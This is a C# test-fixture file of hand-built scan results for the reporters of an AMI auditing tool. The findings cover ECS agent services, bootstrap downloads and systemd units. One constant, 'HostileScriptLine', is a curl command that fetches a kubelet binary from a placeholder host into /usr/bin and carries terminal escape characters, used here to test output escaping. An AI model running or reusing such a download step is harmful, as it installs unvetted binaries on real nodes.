using System.Security.Cryptography;
using System.Text;
using AmiAudit.Core.Evaluation;
using AmiAudit.Core.Model;

namespace AmiAudit.Reporting.Tests.Scan;

/// <summary>
/// Hand-built scan results shaped like the incident: a Deep Learning AMI with ecs.service enabled
/// scanned for use as a Kubernetes node. Every status, severity and awkward character appears
/// somewhere, so each reporter's golden file exercises the paths that break in real life.
/// </summary>
public static class ScanFixtures
{
    public static readonly ReportContext Context = new()
    {
        ToolVersion = "0.1.0-test",
        GeneratedAt = new DateTimeOffset(2025, 1, 15, 10, 30, 0, TimeSpan.Zero),
        Color = false,
        Width = 80,
    };

    public const string DlamiTarget = "ip-10-0-1-23 (ami-0d2a1d1a7f3b9c001)";
    public const string K8sPolicy = "k8s-node-baseline";
    public const string BootstrapPolicy = "bootstrap-hygiene";

    /// <summary>Evidence a hostile or messy image can produce: XML/HTML metacharacters and an ESC sequence.</summary>
    public const string HostileScriptLine = "curl -fsSL \"https://example.com/kubelet?arch=amd64&v=<1.29>\" -o /usr/bin/kubelet \u001b[31mOK\u001b[0m \u0007";

    /// <summary>The incident: gate fails at high with a critical ecs.service finding.</summary>
    public static ScanResult DlamiGateFailed()
    {
        var t = DlamiTarget;
        return new ScanResult
        {
            TargetName = t,
            Target = new TargetInfo
            {
                Kind = "image-root",
                Hostname = "ip-10-0-1-23",
                ImageId = "ami-0d2a1d1a7f3b9c001",
                InstanceId = "i-0123456789abcdef0",
                AvailabilityZone = "us-west-2a",
                Root = "/mnt/image",
            },
            FailOn = Severity.High,
            Policies =
            [
                new PolicySummary { Name = K8sPolicy, Description = "What a Kubernetes node image must look like", File = "policies/k8s-node-baseline.yaml", Rules = 5 },
                new PolicySummary { Name = BootstrapPolicy, Description = "Bootstrap scripts and downloads", File = "policies/bootstrap-hygiene.yaml", Rules = 2 },
            ],
            Findings =
            [
                new Finding
                {
                    RuleId = "ECS-001", Title = "The ECS agent is not enabled on a Kubernetes node",
                    Severity = Severity.Critical, Status = FindingStatus.Fail, Policy = K8sPolicy,
                    PolicyFile = "policies/k8s-node-baseline.yaml", Target = t, Subject = "ecs.service",
                    Fingerprint = Fp("ECS-001", t, "ecs.service"),
                    Message = "ecs.service is enabled (wanted by multi-user.target) and will start at boot",
                    Expected = "unitFileState notIn [enabled, enabled-runtime]",
                    Evidence = Ev(("name", "ecs.service"), ("unitFileState", "enabled"), ("wantedBy", "[multi-user.target]"), ("startsAtBoot", "true")),
                    Location = "/lib/systemd/system/ecs.service",
                    Rationale = "ecs-init restarts the ECS agent in a loop on a node that is not in an ECS cluster, competing with kubelet for CPU and memory.",
                    Remediation = "systemctl disable ecs.service && systemctl mask ecs.service",
                },
                new Finding
                {
                    RuleId = "BOOT-002", Title = "kubelet downloads come from the allow-list",
                    Severity = Severity.High, Status = FindingStatus.Fail, Policy = BootstrapPolicy,
                    PolicyFile = "policies/bootstrap-hygiene.yaml", Target = t, Subject = "https://example.com/kubelet",
                    Fingerprint = Fp("BOOT-002", t, "https://example.com/kubelet"),
                    Message = "kubelet is downloaded from example.com, which is not on the allow-list",
                    Expected = "host in [amazon-eks.s3.amazonaws.com, s3.us-west-2.amazonaws.com]",
                    Evidence = Ev(("host", "example.com"), ("purpose", "kubelet"), ("scriptLine", HostileScriptLine)),
                    Location = "/etc/eks/bootstrap-custom.sh",
                    Line = 12,
                    Rationale = "A kubelet from an unvetted host can be any binary.",
                    Remediation = "Download kubelet from the EKS release bucket for your Kubernetes version.",
                },
                new Finding
                {
                    RuleId = "CTR-001", Title = "No baked-in container with restart=always for an unused agent",
                    Severity = Severity.Medium, Status = FindingStatus.Fail, Policy = K8sPolicy,
                    PolicyFile = "policies/k8s-node-baseline.yaml", Target = t, Subject = "ecs-agent",
                    Fingerprint = Fp("CTR-001", t, "ecs-agent"),
                    Message = "container ecs-agent (amazon/amazon-ecs-agent:latest) has restart policy always",
                    Expected = "restartPolicy notEquals always",
                    Evidence = Ev(("image", "amazon/amazon-ecs-agent:latest"), ("restartPolicy", "always")),
                    Location = "/var/lib/docker/containers/4f1c9e/hostconfig.json",
                    Remediation = "docker rm ecs-agent before the image is captured.",
                },
                new Finding
                {
                    RuleId = "UNIT-010", Title = "No login getty on a headless node",
                    Severity = Severity.Low, Status = FindingStatus.Fail, Policy = K8sPolicy, Target = t,
                    Subject = "getty@tty1.service", Fingerprint = Fp("UNIT-010", t, "getty@tty1.service"),
                    Message = "getty@tty1.service is enabled",
                    Expected = "unitFileState equals disabled",
                    Evidence = Ev(("unitFileState", "enabled")),
                    Location = "/etc/systemd/system/getty.target.wants/getty@tty1.service",
                },
                new Finding
                {
                    RuleId = "UNIT-002", Title = "Enabled units only require units that exist",
                    Severity = Severity.High, Status = FindingStatus.Waived, Policy = K8sPolicy, Target = t,
                    Subject = "docker.service", Fingerprint = Fp("UNIT-002", t, "docker.service"),
                    Message = "docker.service Requires containerd.service, which does not exist",
                    Expected = "every Requires target exists",
                    Evidence = Ev(("requires", "[containerd.service]"), ("missing", "[containerd.service]")),
                    Location = "/lib/systemd/system/docker.service",
                    WaiverReason = "containerd is shipped inside the docker package on this AMI | tracked in ML-4411",
                    WaiverOwner = "team-ml-platform",
                },
                new Finding
                {
                    RuleId = "UNIT-001", Title = "Enabled units have their ExecStart binary",
                    Severity = Severity.High, Status = FindingStatus.Pass, Policy = K8sPolicy, Target = t,
                    Subject = "kubelet.service", Fingerprint = Fp("UNIT-001", t, "kubelet.service"),
                    Message = "/usr/bin/kubelet exists",
                    Expected = "execStartBinaryExists equals true",
                    Evidence = Ev(("execStart", "/usr/bin/kubelet"), ("execStartBinaryExists", "true")),
                },
                new Finding
                {
                    RuleId = "BOOT-001", Title = "cloud-init finished without errors",
                    Severity = Severity.High, Status = FindingStatus.Skipped, Policy = BootstrapPolicy, Target = t,
                    Subject = "", Fingerprint = Fp("BOOT-001", t, ""),
                    Message = "not judgeable offline: the image was never booted (no /var/lib/cloud/data/result.json)",
                },
                new Finding
                {
                    RuleId = "PKG-001", Title = "Installed kernel matches the pinned version",
                    Severity = Severity.Medium, Status = FindingStatus.Error, Policy = K8sPolicy, Target = t,
                    Subject = "", Fingerprint = Fp("PKG-001", t, ""),
                    Message = "rule could not be evaluated: packages.rpm is unavailable (no readable rpmdb)",
                    Expected = "packages.kernel.version matches ^5\\.10\\.",
                },
            ],
            Diagnostics =
            [
                new Diagnostic { Source = "rootfs", Level = "warning", Code = "fifo-skipped", Message = "not a regular file (FIFO); not read", Path = "/etc/systemd/system/evil.service" },
                new Diagnostic { Source = "packages", Level = "unavailable", Code = "rpmdb-unavailable", Message = "no rpm database under /var/lib/rpm" },
            ],
        };
    }

    /// <summary>A clean EKS node image: nothing fails, one waiver, one live-only rule skipped.</summary>
    public static ScanResult CleanPass()
    {
        const string t = "ami-0eks5e1ec7ed00042";
        return new ScanResult
        {
            TargetName = t,
            Target = new TargetInfo { Kind = "image-root", ImageId = t, Root = "/" },
            FailOn = Severity.High,
            Policies = [new PolicySummary { Name = K8sPolicy, File = "policies/k8s-node-baseline.yaml", Rules = 3 }],
            Findings =
            [
                new Finding
                {
                    RuleId = "ECS-001", Title = "The ECS agent is not enabled on a Kubernetes node", Severity = Severity.Critical,
                    Status = FindingStatus.Pass, Policy = K8sPolicy, Target = t, Subject = "ecs.service",
                    Fingerprint = Fp("ECS-001", t, "ecs.service"), Message = "ecs.service is disabled",
                    Expected = "unitFileState notIn [enabled, enabled-runtime]", Evidence = Ev(("unitFileState", "disabled")),
                },
                new Finding
                {
                    RuleId = "UNIT-010", Title = "No login getty on a headless node", Severity = Severity.Low,
                    Status = FindingStatus.Waived, Policy = K8sPolicy, Target = t, Subject = "serial-getty@ttyS0.service",
                    Fingerprint = Fp("UNIT-010", t, "serial-getty@ttyS0.service"), Message = "serial-getty@ttyS0.service is enabled",
                    WaiverReason = "EC2 serial console access for break-glass", WaiverOwner = "sre-oncall",
                },
                new Finding
                {
                    RuleId = "BOOT-001", Title = "cloud-init finished without errors", Severity = Severity.High,
                    Status = FindingStatus.Skipped, Policy = K8sPolicy, Target = t, Fingerprint = Fp("BOOT-001", t, ""),
                    Message = "not judgeable offline: the image was never booted",
                },
            ],
        };
    }

    /// <summary>Report-only run (no --fail-on) on a relative root: no image id, no location root.</summary>
    public static ScanResult NoGateRelativeRoot()
    {
        const string t = "examples/dlami-root";
        return new ScanResult
        {
            TargetName = t,
            Target = new TargetInfo { Kind = "image-root", Root = t },
            Policies = [new PolicySummary { Name = "custom | pipes", Rules = 1 }],
            Findings =
            [
                new Finding
                {
                    RuleId = "CUSTOM-7", Title = "Unit names use `backticks` and | pipes *safely*", Severity = Severity.Info,
                    Status = FindingStatus.Fail, Policy = "custom | pipes", Target = t, Subject = "weird|unit`name.service",
                    Fingerprint = Fp("CUSTOM-7", t, "weird|unit`name.service"),
                    Message = "found <b>weird</b> & odd unit\nsecond line",
                    Evidence = Ev(("name", "weird|unit`name.service"), ("note", "```fence breaker")),
                    Location = "etc/systemd/system/weird unit.service",
                },
            ],
        };
    }

    public static IEnumerable<(string Name, ScanResult Result)> All()
    {
        yield return ("dlami-gate-failed", DlamiGateFailed());
        yield return ("clean-pass", CleanPass());
        yield return ("no-gate-relative-root", NoGateRelativeRoot());
    }

    public static ScanResult ByName(string name) => All().Single(x => x.Name == name).Result;

    private static SortedDictionary<string, string> Ev(params (string Key, string Value)[] pairs)
    {
        var d = new SortedDictionary<string, string>(StringComparer.Ordinal);
        foreach (var (k, v) in pairs) d[k] = v;
        return d;
    }

    /// <summary>Mirrors the documented fingerprint recipe: sha256(ruleId + target + subject), 16 hex chars.</summary>
    private static string Fp(string rule, string target, string subject) =>
        Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(rule + target + subject)))[..16];
}
